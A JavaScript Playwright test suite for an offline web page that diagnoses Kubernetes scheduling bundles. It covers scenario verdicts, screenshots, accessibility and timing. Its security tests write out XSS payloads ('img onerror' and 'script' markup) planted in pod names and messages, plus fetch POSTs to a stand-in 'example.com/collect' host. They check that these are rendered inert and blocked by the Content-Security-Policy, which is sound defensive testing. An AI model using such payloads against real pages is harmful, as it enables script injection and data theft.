// Browser tests of the offline page: Debian's Chromium driven by playwright-core, against
// web-demo/dist served on 127.0.0.1 with the page's Content-Security-Policy. Every scenario of
// tests/scenarios is pasted and every expected target checked; no request may leave the local
// server; bad input must show an error; screenshots go to tests/artifacts/ to be looked at.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { readFileSync, readdirSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join, extname, resolve } from 'node:path';
import { tmpdir } from 'node:os';
import { mkdtempSync } from 'node:fs';
import { chromium } from 'playwright-core';

const here = new URL('.', import.meta.url).pathname;
const dist = resolve(here, '../dist');
const artifacts = resolve(here, '../../tests/artifacts');
const scenariosDir = process.env.KL_SCENARIOS ?? resolve(here, '../../tests/scenarios');
const CSP = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'; style-src 'self'; img-src 'self' data:";
const MIME = { '.html': 'text/html; charset=utf-8', '.mjs': 'text/javascript', '.js': 'text/javascript', '.css': 'text/css', '.wasm': 'application/wasm', '.json': 'application/json', '.yaml': 'text/yaml' };

const scenarios = readdirSync(scenariosDir)
  .filter((d) => existsSync(join(scenariosDir, d, 'expected.json')))
  .sort()
  .map((d) => {
    const dir = join(scenariosDir, d);
    const bundlePath = ['bundle.json', 'bundle.yaml'].map((f) => join(dir, f)).find(existsSync);
    return { name: d, bundle: readFileSync(bundlePath, 'utf8'), expected: JSON.parse(readFileSync(join(dir, 'expected.json'), 'utf8')) };
  });

let server, origin, context, page;
const requests = [];
const consoleErrors = [];

before(async () => {
  server = http.createServer((req, res) => {
    const path = decodeURIComponent(new URL(req.url, 'http://x').pathname);
    const file = resolve(dist, path === '/' ? 'index.html' : `.${path}`);
    if (!file.startsWith(dist) || !existsSync(file)) {
      res.writeHead(404, { 'Content-Security-Policy': CSP });
      return res.end('not found');
    }
    res.writeHead(200, { 'Content-Type': MIME[extname(file)] ?? 'application/octet-stream', 'Content-Security-Policy': CSP, 'Cache-Control': 'no-store' });
    res.end(readFileSync(file));
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  origin = `http://127.0.0.1:${server.address().port}`;
  context = await chromium.launchPersistentContext(mkdtempSync(join(tmpdir(), 'kl-chromium-')), {
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    viewport: { width: 1280, height: 900 },
  });
  context.on('request', (r) => requests.push(r.url()));
  page = context.pages()[0] ?? (await context.newPage());
  page.on('console', (m) => { if (m.type() === 'error') consoleErrors.push(m.text()); });
  page.on('pageerror', (e) => consoleErrors.push(String(e)));
  await page.goto(origin);
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
});

after(async () => {
  await context?.close();
  server?.close();
});

async function paste(text) {
  // What a paste leaves behind: the new value and an `input` event. (Playwright's fill() goes
  // through editing commands, which take minutes on a bundle of several hundred KB.)
  await page.evaluate((t) => {
    document.body.dataset.ready = 'false';
    const area = document.querySelector('[data-testid="bundle-input"]');
    area.value = t;
    area.dispatchEvent(new Event('input', { bubbles: true }));
  }, text);
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached', timeout: 60_000 });
}

/** Start from an empty page state (no pasted text, no dropped files). */
async function reset() {
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('#clear');
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
}

async function choose(target) {
  await page.selectOption('[data-testid="target-select"]', target);
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached', timeout: 60_000 });
}

async function verdict() {
  return page.$eval('[data-testid="verdict"]', (v) => ({ layer: v.dataset.layer, state: v.dataset.state, target: v.dataset.target, text: v.textContent }));
}

test('the page loads the package and lists the rules', async () => {
  const count = await page.$$eval('#rules details', (d) => d.length);
  assert.ok(count >= 20, `rules listed: ${count}`);
  assert.match(await page.textContent('#privacy'), /Nothing you paste or drop is stored or sent/);
});

for (const s of scenarios) {
  test(`scenario ${s.name}: every target's verdict names the expected layer`, async () => {
    await paste(s.bundle);
    const options = await page.$$eval('[data-testid="target-select"] option', (o) => o.map((x) => x.value));
    for (const e of s.expected) {
      assert.ok(options.includes(e.target), `${e.target} is offered (${options.slice(0, 5).join(', ')}…)`);
      await choose(e.target);
      const v = await verdict();
      assert.equal(v.target, e.target);
      assert.equal(v.state, e.verdict.state, `${s.name} ${e.target} state`);
      assert.equal(v.layer, e.verdict.layer ?? '', `${s.name} ${e.target} layer`);
      assert.ok(v.text.includes(e.verdict.layer ?? 'ok'), `verdict text names the layer: ${v.text}`);
      const headline = await page.textContent('[data-testid="headline"]');
      assert.ok(headline.startsWith(e.headline), `headline ${headline}`);
      const states = await page.$$eval('#layer-rows tr', (rows) => Object.fromEntries(rows.map((r) => [r.dataset.layer, r.dataset.state])));
      assert.deepEqual(states, e.layers);
    }
  });
}

test('the most likely target is picked by itself', async () => {
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
  await page.click('#clear');
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  await paste(s.bundle);
  const v = await verdict();
  assert.equal(v.state, 'blocked');
  assert.ok(v.target, 'a target is chosen without asking');
});

test('evidence expands to the JSON it came from; commands and Markdown can be copied', async () => {
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
  await paste(s.bundle);
  await choose(s.expected[0].target);
  const details = page.locator('.evidence details').first();
  await details.locator('summary').click();
  // The source is read from the bundle when the details open (the toggle event).
  await page.waitForFunction(() => document.querySelector('.evidence details[open] pre')?.textContent.length > 0);
  const json = JSON.parse(await details.locator('pre').textContent());
  assert.ok(json.kind && json.metadata?.name, 'the evidence source object is shown');
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  await page.click('#copy-markdown');
  const md = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(md, /^### /);
  // Quota larger than the nodes is this cluster's own configuration: fixed here, not reported.
  assert.match(md, /Where to fix: your cluster/);
  await page.locator('#next button').first().click();
  const cmd = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(cmd, /^kubectl /);
});

test('an example loads from the built-in list', async () => {
  const value = await page.$eval('#example option:nth-child(2)', (o) => o.value);
  await page.selectOption('#example', value);
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.click('#load-example');
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  assert.ok((await verdict()).state, 'an example gives a verdict');
});

test('bad input shows what and where, never a blank page', async () => {
  await paste('{"apiVersion": "v1", "kind": "List",\n "items": [ }');
  assert.equal(await page.isVisible('[data-testid="error"]'), true);
  assert.match(await page.textContent('[data-testid="error"]'), /line 2/);
  assert.equal((await verdict()).state, '');
  await paste('NAME        READY   STATUS\ntrainer-0   0/1     Pending');
  assert.match(await page.textContent('[data-testid="error"]'), /table output/);
});

test('several dropped files are read as one bundle, JSON and YAML mixed', async () => {
  const s = scenarios.find((x) => x.name === 'lws-leader-only');
  const y = scenarios.find((x) => x.name === 'mixed-yaml-stream');
  await page.click('#clear');
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  const items = JSON.parse(s.bundle).items;
  const pods = JSON.stringify({ apiVersion: 'v1', kind: 'List', items: items.filter((o) => o.kind === 'Pod') });
  await page.evaluate(() => { document.body.dataset.ready = 'false'; });
  await page.setInputFiles('#files', [
    { name: 'pods.json', mimeType: 'application/json', buffer: Buffer.from(pods) },
    { name: 'rest.yaml', mimeType: 'text/yaml', buffer: Buffer.from(y.bundle) },
  ]);
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  assert.equal(await page.$$eval('#file-list li', (l) => l.length), 2);
  await choose(s.expected[0].target);
  assert.equal((await verdict()).layer, s.expected[0].verdict.layer);
});

test('values from the bundle are shown, never run', async () => {
  await reset();
  const evil = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
  const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'x', namespace: 'ml', labels: { a: evil } },
    status: { phase: 'Pending', conditions: [{ type: 'PodScheduled', status: 'False', reason: 'Unschedulable', message: evil }] } };
  await paste(JSON.stringify(pod));
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.ok((await page.textContent('[data-testid="headline"]')).includes('<img'), 'shown as text');
  assert.equal(await page.$$eval('#result img, #result script', (x) => x.length), 0);
});

test('the Content-Security-Policy blocks other hosts, and nothing is stored', async () => {
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'x' });
      return false;
    } catch {
      return true;
    }
  });
  assert.equal(blocked, true, 'fetch to another host is refused');
  const stored = await page.evaluate(async () => ({
    local: localStorage.length, session: sessionStorage.length, cookie: document.cookie,
    idb: (await indexedDB.databases()).length,
  }));
  assert.deepEqual(stored, { local: 0, session: 0, cookie: '', idb: 0 });
  const outside = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:'));
  assert.deepEqual(outside, [], 'no request left 127.0.0.1');
});

test('the Content-Security-Policy itself refuses another origin, even one on this machine', async () => {
  // A closed network makes any fetch to the internet fail; a second local origin would answer,
  // so only the policy can stop a request to it. Nothing may reach it, and the browser must
  // report each refusal as a policy violation.
  const hits = [];
  const other = http.createServer((req, res) => { hits.push(req.url); res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }); res.end('x'); });
  await new Promise((r) => other.listen(0, '127.0.0.1', r));
  const otherOrigin = `http://127.0.0.1:${other.address().port}`;
  try {
    const result = await page.evaluate(async (o) => {
      const violations = [];
      const listener = (e) => violations.push(e.effectiveDirective);
      document.addEventListener('securitypolicyviolation', listener);
      let fetched = 'refused';
      try { await fetch(`${o}/collect`, { method: 'POST', body: 'pasted text' }); fetched = 'sent'; } catch { /* refused */ }
      const img = document.createElement('img');
      img.src = `${o}/pixel.png`;
      document.body.append(img);
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true';
      document.body.append(inline);
      await new Promise((r) => setTimeout(r, 500));
      img.remove();
      inline.remove();
      document.removeEventListener('securitypolicyviolation', listener);
      return { fetched, violations: [...new Set(violations)].sort(), inlineRan: window.__inlineRan === true };
    }, otherOrigin);
    assert.equal(result.fetched, 'refused', 'fetch to another origin is refused');
    assert.equal(result.inlineRan, false, 'an inline script does not run');
    assert.deepEqual(result.violations, ['connect-src', 'img-src', 'script-src-elem']);
    assert.deepEqual(hits, [], 'the other origin received nothing');
  } finally {
    other.close();
  }
});

test('markup planted in names and event messages is shown as text and never runs', async () => {
  await reset();
  const evil = (n) => `<img src=x onerror="window.__pwned='${n}'"><script>window.__pwned='${n}-script'</script>`;
  const podName = `trainer-${evil('pod-name')}`;
  const nodeName = `gpu-${evil('node-name')}`;
  const items = [
    { apiVersion: 'v1', kind: 'Node', metadata: { name: nodeName }, status: { allocatable: { 'nvidia.com/gpu': '1' }, conditions: [{ type: 'Ready', status: 'True' }] } },
    { apiVersion: 'v1', kind: 'Pod', metadata: { name: podName, namespace: 'ml', uid: 'u-evil' },
      spec: { containers: [{ name: evil('container'), image: evil('image'), resources: { limits: { 'nvidia.com/gpu': '4' } } }] },
      status: { phase: 'Pending', conditions: [{ type: 'PodScheduled', status: 'False', reason: 'Unschedulable',
        message: `0/1 nodes are available: 1 Insufficient nvidia.com/gpu. ${evil('condition-message')}` }] } },
    { apiVersion: 'v1', kind: 'Event', metadata: { name: 'e1', namespace: 'ml' }, type: 'Warning', reason: 'FailedScheduling',
      involvedObject: { kind: 'Pod', namespace: 'ml', name: podName, uid: 'u-evil' }, message: evil('event-message'),
      lastTimestamp: '2026-10-14T09:41:07Z' },
  ];
  const before = await page.evaluate(() => ({ img: document.querySelectorAll('img').length, script: document.querySelectorAll('script').length }));
  await page.evaluate(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.effectiveDirective));
  });
  await paste(JSON.stringify({ apiVersion: 'v1', kind: 'List', items }));
  // Open every folded part (evidence loads its object's JSON when opened), so everything from
  // the input is rendered.
  const opened = await page.evaluate(() => {
    const all = [...document.querySelectorAll('#result details')];
    for (const d of all) d.open = true;
    return all.length;
  });
  assert.ok(opened > 0, 'the diagnosis has evidence to open');
  await page.waitForTimeout(500); // an injected <img onerror> would fire once its load fails
  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no planted handler or script ran');
  assert.deepEqual(await page.evaluate(() => window.__violations), [], 'nothing even tried to run');
  const after = await page.evaluate(() => ({ img: document.querySelectorAll('img').length, script: document.querySelectorAll('script').length }));
  assert.deepEqual(after, before, 'no element was made from the input');
  const options = await page.$$eval('[data-testid="target-select"] option', (o) => o.map((x) => x.textContent).join('\n'));
  assert.ok(options.includes('<img src=x'), `the name is offered as text: ${options.slice(0, 200)}`);
  const shown = await page.textContent('#result');
  assert.ok(shown.includes("onerror=\"window.__pwned='"), 'the planted markup is shown as text');
});

test('screenshots of a blocked diagnosis on a desktop and a phone', async () => {
  await reset();
  mkdirSync(artifacts, { recursive: true });
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
  await paste(s.bundle);
  await choose(s.expected[0].target);
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.screenshot({ path: join(artifacts, 'web-desktop.png'), fullPage: true });
  await page.setViewportSize({ width: 390, height: 844 });
  await page.screenshot({ path: join(artifacts, 'web-mobile.png'), fullPage: true });
  await page.screenshot({ path: join(artifacts, 'web-mobile-top.png') });
  const overflow = await page.evaluate(() => {
    const wide = [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > window.innerWidth + 1).map((e) => `${e.tagName}#${e.id}.${e.className}`);
    return { px: document.documentElement.scrollWidth - window.innerWidth, wide: wide.slice(0, 5) };
  });
  assert.ok(overflow.px <= 1, `no horizontal scrolling on a phone (${overflow.px}px: ${overflow.wide.join(', ')})`);
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.screenshot({ path: join(artifacts, 'web-mobile-dark.png') });
  await page.emulateMedia({ colorScheme: 'light' });
  await page.setViewportSize({ width: 1280, height: 900 });
});

test('keyboard: the controls are reachable with Tab', async () => {
  await page.focus('[data-testid="bundle-input"]');
  const seen = [];
  for (let i = 0; i < 12; i++) {
    await page.keyboard.press('Tab');
    seen.push(await page.evaluate(() => document.activeElement?.id || document.activeElement?.dataset?.testid || document.activeElement?.tagName));
  }
  for (const id of ['example', 'load-example', 'target', 'diagnose']) assert.ok(seen.includes(id), `${id} reachable (${seen.join(', ')})`);
});

test('time from paste to verdict for a 20 MB bundle', async () => {
  const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
  const list = JSON.parse(s.bundle);
  const noise = list.items.filter((o) => o.kind === 'Pod' && o.status?.phase === 'Running');
  const items = [...list.items];
  let size = s.bundle.length;
  for (let i = 0; size < 20 * 1024 * 1024; i++) {
    const copy = structuredClone(noise[i % noise.length]);
    copy.metadata.name = `${copy.metadata.name}-r${i}`;
    copy.metadata.uid = `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
    delete copy.spec.nodeName; // not bound: keeps the expected GPU arithmetic of the scenario
    copy.status = { phase: 'Succeeded' };
    const text = JSON.stringify(copy);
    size += text.length + 1;
    items.push(copy);
  }
  const big = JSON.stringify({ ...list, items });
  const target = s.expected[0].target;
  await page.click('#clear');
  await page.waitForSelector('body[data-ready="true"]', { state: 'attached' });
  const ms = await page.evaluate(async ({ text, target }) => {
    const area = document.querySelector('[data-testid="bundle-input"]');
    const t0 = performance.now();
    document.body.dataset.ready = 'false';
    area.value = text;
    area.dispatchEvent(new Event('input', { bubbles: true }));
    await new Promise((resolve) => {
      const done = () => document.body.dataset.ready === 'true' && document.querySelector('[data-testid="verdict"]').dataset.state;
      const poll = () => (done() ? resolve() : setTimeout(poll, 10));
      poll();
    });
    return { total: performance.now() - t0, target: document.querySelector('[data-testid="verdict"]').dataset.target };
  }, { text: big, target });
  mkdirSync(artifacts, { recursive: true });
  const mb = big.length / 1024 / 1024;
  writeFileSync(join(artifacts, 'web-timing.json'), JSON.stringify({ bytes: big.length, objects: items.length, pasteToVerdictMs: Math.round(ms.total), includesDebounceMs: 200 }, null, 2));
  console.log(`# 20 MB paste to verdict: ${mb.toFixed(1)} MB, ${items.length} objects, ${Math.round(ms.total)} ms (includes the 200 ms input debounce)`);
  assert.ok(ms.target, 'a verdict is shown');
});

// The npm README's browser example, saved as index.html beside node_modules/ the way it says,
// must diagnose a pasted bundle in a real browser.
test("the npm README's browser example runs as printed", async () => {
  const pkg = process.env.KL_PKG ?? resolve(here, '../../wasm/pkg');
  const readme = readFileSync(join(pkg, 'README.md'), 'utf8');
  const html = (readme.split('## Browser')[1] ?? '').match(/```html\n([\s\S]*?)```/)?.[1];
  assert.ok(html, 'the README has a browser example');
  const site = mkdtempSync(join(tmpdir(), 'kl-readme-'));
  writeFileSync(join(site, 'index.html'), html);
  const served = (path) => (path.startsWith('/node_modules/kubectl-layer/') ? join(pkg, path.slice('/node_modules/kubectl-layer/'.length)) : join(site, path === '/' ? 'index.html' : path));
  const other = http.createServer((req, res) => {
    const file = served(decodeURIComponent(new URL(req.url, 'http://x').pathname));
    if (!existsSync(file)) { res.writeHead(404); return res.end(); }
    res.writeHead(200, { 'Content-Type': MIME[extname(file)] ?? 'application/octet-stream' });
    res.end(readFileSync(file));
  });
  await new Promise((r) => other.listen(0, '127.0.0.1', r));
  const tab = await context.newPage();
  try {
    const errors = [];
    tab.on('pageerror', (e) => errors.push(String(e)));
    await tab.goto(`http://127.0.0.1:${other.address().port}/`);
    const s = scenarios.find((x) => x.name === 'kueue-admitted-no-gpu-room') ?? scenarios[0];
    await tab.evaluate((t) => { document.querySelector('#bundle').value = t; }, s.bundle);
    // init() may still be loading the module: click until the output appears.
    await tab.waitForFunction(() => {
      document.querySelector('#go').click();
      return document.querySelector('#out').textContent.length > 0;
    }, null, { timeout: 30_000, polling: 200 });
    const out = await tab.textContent('#out');
    assert.match(out, /blocked at PLACEMENT/, out);
    assert.deepEqual(errors, []);
  } finally {
    await tab.close();
    other.close();
  }
});

test('no console errors', () => {
  assert.deepEqual(consoleErrors.filter((e) => !/example\.com|Content Security Policy|net::ERR_/.test(e)), []);
});
